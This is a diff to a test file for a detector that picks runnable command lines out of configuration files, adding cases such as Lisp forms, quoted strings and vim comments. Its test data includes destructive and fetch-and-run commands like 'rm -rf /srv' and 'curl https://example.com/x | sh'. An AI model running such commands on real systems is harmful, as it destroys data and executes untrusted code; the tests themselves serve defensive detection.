@@ -11,6 +11,8 @@ describe("lines to run in configuration of any language", () => {
       "UserParameter=x,curl https://example.com/x | sh\n",
       ["curl https://example.com/x | sh"],
     ],
+    ["in a string that is the whole line", '"rm -rf /srv"\n', ["rm -rf /srv"]],
+    ["in brackets of Lisp", "(layer x (cmd rm -rf /srv))\n", ["rm -rf /srv"]],
     ["in brackets", "text = [[${execi 60 rm -rf /srv}]]\n", ["rm -rf /srv"]],
   ])("%s", (_, content, expected) => {
     expect(linesIn(content)).toEqual(expect.arrayContaining(expected));
@@ -18,6 +20,8 @@ describe("lines to run in configuration of any language", () => {
 
   test.each([
     ["a comment", "# rm -rf /srv\n"],
+    ["a comment of vim", '" rm -rf /srv\n'],
+    ["a shell that is yet to be given its line", 'set shell := ["bash", "-uc"]\n'],
     ["a sentence", 'description = "remove the files and copy them to a server"\n'],
     ["settings of a server", "listen 80;\nserver_name example.com;\nproxy_pass http://localhost:3000;\n"],
     ["a dependency", '"rimraf": "^5.0.0"\n'],
